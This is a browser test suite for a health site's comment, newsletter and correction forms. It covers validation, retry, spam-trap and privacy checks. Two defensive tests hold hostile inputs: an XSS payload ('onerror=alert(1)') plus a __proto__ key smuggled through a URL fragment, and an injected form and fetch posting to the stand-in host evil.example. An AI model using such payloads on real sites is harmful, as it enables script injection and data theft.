import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { importComments, PENDING, type CommentImportReport } from '#scripts/comments/import.ts';
import { siteHeaders } from '#scripts/hosts/sent-headers.ts';
import { openFormEndpoint, type FormEndpoint } from '#tests/browser/form-endpoint.ts';
import { buildGuestSite, GUEST_DIST, GUEST_ROOT, OPEN_ARTICLE } from '#tests/browser/guest-site.ts';
import { LIGHT, NO_SCRIPT, openSite, type OpenSite } from '#tests/browser/open-site.ts';
import { settle } from '#tests/browser/settle.ts';

const COMMENTS = `${OPEN_ARTICLE}comments/`;
const WITH_AND_WITHOUT = [
  ['with script', LIGHT],
  ['without script', NO_SCRIPT],
] as const;

let site: OpenSite;
let endpoint: FormEndpoint;

beforeAll(async () => {
  await buildGuestSite();
  endpoint = await openFormEndpoint();
  const headers = siteHeaders(GUEST_DIST);
  site = await openSite({ dir: GUEST_DIST, headers, prepare: endpoint.serve });
});

afterAll(async () => {
  await site.close();
  await endpoint.close();
});

beforeEach(() => {
  endpoint.posts.length = 0;
  endpoint.answer = 200;
});

const message = (page: Page) => page.locator('textarea');
const send = (page: Page) => page.locator('main form button[type="submit"]');
const status = (page: Page) => page.locator('main form [role="status"]');

async function fillComment(page: Page, text: string): Promise<void> {
  await page.getByLabel(/^Name to show/).fill('Ann');
  await message(page).fill(text);
}

/** The browser has found a field that lacks something, and leads there instead of sending. */
const refusalShown = (page: Page): Promise<unknown> =>
  page.waitForFunction(() => document.activeElement?.matches(':invalid') === true);

/** Addresses of the services that the page has asked for something. */
const sentBy = (requests: readonly string[]): string[] =>
  requests.filter((address) => /^https:\/\/[a-z]+\.example\//.test(address));

/** Hands what the service got to the import, as its webhook would. */
function importPosts(): CommentImportReport {
  const root = mkdtempSync(join(tmpdir(), 'guest-import-'));
  try {
    cpSync(join(GUEST_ROOT, 'content'), join(root, 'content'), { recursive: true });
    const bytes = Buffer.from(JSON.stringify(endpoint.posts.map(({ fields }) => fields)));
    return importComments(bytes, 'posts.json', {
      root,
      into: PENDING,
      today: '2026-11-23',
      article: undefined,
      keep: 'likely-real',
    });
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
}

describe('a comment', () => {
  test.each(WITH_AND_WITHOUT)('is sent %s, and nothing but the comment', async (_name, reader) => {
    const { page, complaints } = await site.visit(COMMENTS, reader);
    await page.getByLabel('In answer to').selectOption({ label: 'Fixture reader, November 2, 2026' });
    await fillComment(page, 'Two lines,\nand <b>no</b> script.');
    await page.getByLabel('An interest').fill('None');
    await send(page).click();
    await expect.poll(() => endpoint.posts.length).toBe(1);
    const [post] = endpoint.posts;
    expect(post?.url).toBe('https://forms.example/comments');
    expect(post?.fields).toEqual({
      article: 'research-on-stem-cell-therapy-for-chronic-pain',
      inReplyTo: 'fixture-first',
      name: 'Ann',
      'fields[message]': expect.stringMatching(/^Two lines,\r?\nand <b>no<\/b> script\.$/) as string,
      disclosure: 'None',
      elapsed: reader === LIGHT ? (expect.stringMatching(/^\d+$/) as string) : '',
      website: '',
    });
    if (reader === LIGHT) {
      await expect.poll(() => status(page).textContent()).toContain('Thank you');
      expect(await message(page).inputValue()).toBe('');
    } else {
      await page.getByText('The service says thanks').waitFor();
    }
    expect(complaints).toEqual([]);
    await page.close();
  });

  test('that answers another is begun by its reply link', async () => {
    const { page } = await site.visit(OPEN_ARTICLE);
    await page.locator('#comment-fixture-answer > p a', { hasText: 'Reply' }).click();
    await page.waitForURL('**/comments/?reply=fixture-answer#write');
    expect(await page.getByLabel('In answer to').inputValue()).toBe('fixture-answer');
    await page.close();
  });

  test.each(WITH_AND_WITHOUT)('with nothing in it is not sent (%s)', async (_name, reader) => {
    const { page, requests } = await site.visit(COMMENTS, reader);
    await send(page).click();
    await refusalShown(page);
    expect(sentBy(requests)).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(COMMENTS);
    await page.close();
  });

  test('of 4,000 letters fits, and more cannot be typed', async () => {
    const { page } = await site.visit(COMMENTS);
    await fillComment(page, 'x'.repeat(3999));
    await message(page).focus();
    await page.keyboard.press('Control+End');
    await page.keyboard.type('yz');
    expect((await message(page).inputValue()).length).toBe(4000);
    await page.close();
  });

  test('that the service finds too large is kept, and the reader is told', async () => {
    const { page } = await site.visit(COMMENTS);
    await message(page).evaluate((field: HTMLTextAreaElement) => {
      field.removeAttribute('maxlength');
    });
    await fillComment(page, 'x'.repeat(60_000));
    await send(page).click();
    await expect.poll(() => status(page).textContent()).toContain('error 413');
    expect((await message(page).inputValue()).length).toBe(60_000);
    await page.close();
  });

  test.each(WITH_AND_WITHOUT)('sent by an impatient finger arrives once (%s)', async (_name, reader) => {
    const { page, requests } = await site.visit(COMMENTS, reader);
    await fillComment(page, 'Only once, please.');
    await send(page).dblclick();
    await expect.poll(() => endpoint.posts.length).toBeGreaterThan(0);
    // Both presses were made before; what the second one sends, it has sent when the answer to the first is shown.
    if (reader === LIGHT) {
      await expect.poll(() => status(page).textContent()).toContain('Thank you');
      expect(sentBy(requests)).toHaveLength(1);
    } else {
      // Without script the browser may send twice; the import then takes them for one.
      await page.getByText('The service says thanks').waitFor();
    }
    expect(importPosts().written).toHaveLength(1);
    await page.close();
  });

  test('by a robot that fills in every field is not taken', async () => {
    const { page } = await site.visit(COMMENTS, NO_SCRIPT);
    const trap = page.locator('[data-trap]');
    expect(await trap.getAttribute('tabindex')).toBe('-1');
    expect((await page.locator('.hidden-fields').boundingBox())?.width ?? 0).toBeLessThanOrEqual(1);
    await fillComment(page, 'Buy a wonder.');
    await trap.fill('https://spam.example', { force: true });
    await send(page).click();
    await expect.poll(() => endpoint.posts.length).toBe(1);
    expect(importPosts()).toMatchObject({
      written: [],
      spam: [{ reasons: ['a field that people do not see is filled in'] }],
    });
    await page.close();
  });
});

describe('when the service does not answer', () => {
  test.each(['down', 503] as const)(
    '(%s) the reader is told, keeps the text over a reload, and can send it later',
    async (answer) => {
      const { page } = await site.visit(COMMENTS);
      endpoint.answer = answer;
      await fillComment(page, 'An hour of work.');
      await send(page).click();
      await expect.poll(() => status(page).textContent()).toContain('could not be sent');
      expect(await status(page).textContent()).toContain('still here');
      expect(await message(page).inputValue()).toBe('An hour of work.');
      await page.reload();
      expect(await message(page).inputValue()).toBe('An hour of work.');
      endpoint.answer = 200;
      await send(page).click();
      await expect.poll(() => status(page).textContent()).toContain('Thank you');
      expect(endpoint.posts).toHaveLength(1);
      await page.reload();
      expect(await message(page).inputValue()).toBe('');
      await page.close();
    },
  );

  test('and its answers cannot be read, the page tells what may have happened and keeps the text', async () => {
    const { page } = await site.visit('/corrections/#page=/treatments/tens/');
    endpoint.answer = 'down';
    await message(page).fill('The number is wrong.');
    await send(page).click();
    await page.waitForURL(/chrome-error|forms\.example/).catch(() => undefined);
    await page.goto(`${site.url}/corrections/#page=/treatments/tens/`);
    expect(await message(page).inputValue()).toBe('The number is wrong.');
    expect(await status(page).textContent()).toContain('If you saw an error, send it again.');
    await page.getByRole('button', { name: 'Clear the form' }).click();
    await page.reload();
    expect(await message(page).inputValue()).toBe('');
    await page.close();
  });

  test('and there is no script, going back brings the text back', async () => {
    const { page } = await site.visit(COMMENTS, NO_SCRIPT);
    endpoint.answer = 503;
    // Chromium notes about once a second what stands in a form. On a busy machine it may miss what was just typed, so a
    // form that came back empty is filled in and sent again.
    const textAfterBack = async (): Promise<string> => {
      await page.getByLabel(/^Name to show/).fill('Ann');
      await message(page).fill('');
      await message(page).pressSequentially('Typed with care.', { delay: 150 });
      await send(page).click();
      await page.waitForURL('https://forms.example/**');
      await page.goBack();
      return message(page).inputValue();
    };
    await expect.poll(textAfterBack).toBe('Typed with care.');
    await page.close();
  });
});

describe('a sign-up', () => {
  test.each([
    ['below an article, with script', OPEN_ARTICLE, LIGHT],
    ['below an article, without', OPEN_ARTICLE, NO_SCRIPT],
    ['on the page of the newsletter, with script', '/newsletter/', LIGHT],
    ['on the page of the newsletter, without', '/newsletter/', NO_SCRIPT],
  ])('%s goes to the service under its own names', async (_name, path, reader) => {
    const { page, complaints } = await site.visit(path, reader);
    await page.getByLabel('Your e-mail address').fill('ann@reader.example');
    await page.getByRole('button', { name: 'Sign up' }).click();
    await expect.poll(() => endpoint.posts.length).toBe(1);
    expect(endpoint.posts[0]).toEqual({
      url: 'https://letters.example/subscribe/post',
      fields: { list: 'pain', EMAIL: 'ann@reader.example', b_fixture: '' },
    });
    expect(complaints).toEqual([]);
    await page.close();
  });

  test('with something that is no address is not sent', async () => {
    const { page, requests } = await site.visit('/newsletter/', NO_SCRIPT);
    await page.getByLabel('Your e-mail address').fill('ann');
    await page.getByRole('button', { name: 'Sign up' }).click();
    await refusalShown(page);
    expect(sentBy(requests)).toEqual([]);
    await page.close();
  });

  test('says beside the field what is sent, how to leave and where the address goes', async () => {
    const { page } = await site.visit('/newsletter/', NO_SCRIPT);
    const text = (await page.locator('.newsletter-form').innerText()).replaceAll(/\s+/g, ' ');
    for (const words of ['you agree', 'confirm', 'link to leave', 'letters.example', 'privacy'])
      expect(text).toContain(words);
    expect(await page.locator('.newsletter-form a[href="/privacy/"]').count()).toBe(1);
    await page.close();
  });
});

describe('a correction', () => {
  test('of a section of findings carries its page, its treatment and section, and its date', async () => {
    const { page } = await site.visit('/evidence/tens/chronic-pain/');
    await page.getByRole('link', { name: 'Something wrong in “What studies measured”?' }).click();
    await page.waitForURL('**/corrections/#**');
    await message(page).fill('It was 38 trials.');
    await send(page).click();
    await expect.poll(() => endpoint.posts.length).toBe(1);
    expect(endpoint.posts[0]).toMatchObject({
      url: 'https://forms.example/corrections',
      fields: {
        page: '/evidence/tens/chronic-pain/',
        fact: expect.stringMatching(/^tens\//) as string,
        date: expect.stringMatching(/^\d{4}-\d\d-\d\d$/) as string,
        wish: 'correct',
        message: 'It was 38 trials.',
      },
    });
    await page.close();
  });

  test('to a listing asks for its removal with two presses and a sentence', async () => {
    const { page } = await site.visit('/providers/cindy-perlin/');
    await page.getByRole('link', { name: 'Remove this listing' }).click();
    await page.waitForURL('**/corrections/#**');
    expect(await page.getByLabel('What do you want?').inputValue()).toBe('remove');
    expect(await page.getByLabel('Which page?').inputValue()).toBe('/providers/cindy-perlin/');
    await page.close();
  });

  test('fills in text alone from an address that somebody else made', async () => {
    const { page, complaints } = await site.visit(
      `/corrections/#page=${encodeURIComponent('"><img src=x onerror=alert(1)>')}&message=no&__proto__=x&fact=${'x'.repeat(5000)}`,
    );
    expect(await page.getByLabel('Which page?').inputValue()).toBe('"><img src=x onerror=alert(1)>');
    expect((await page.getByLabel('Which fact').inputValue()).length).toBe(300);
    expect(await message(page).inputValue()).toBe('');
    expect(complaints).toEqual([]);
    await page.close();
  });
});

test('a form that somebody smuggled in can post nowhere else', async () => {
  const { page, complaints, requests } = await site.visit(COMMENTS);
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => complaints.join(' ')).toContain('form-action');
  await page.evaluate(() => fetch('https://evil.example/', { method: 'POST', mode: 'no-cors' }).catch(() => undefined));
  expect(requests.filter((address) => address.includes('evil.example'))).toEqual([]);
  await page.close();
});

test('until a form is sent no page asks another origin for anything', async () => {
  for (const path of [OPEN_ARTICLE, COMMENTS, '/corrections/', '/newsletter/']) {
    const { page, requests } = await site.visit(path);
    await page.evaluate(() => {
      scrollTo({ top: document.body.scrollHeight, behavior: 'instant' });
    });
    await settle(page);
    expect(requests.filter((address) => !address.startsWith(site.url) && !address.startsWith('data:'))).toEqual([]);
    await page.close();
  }
});
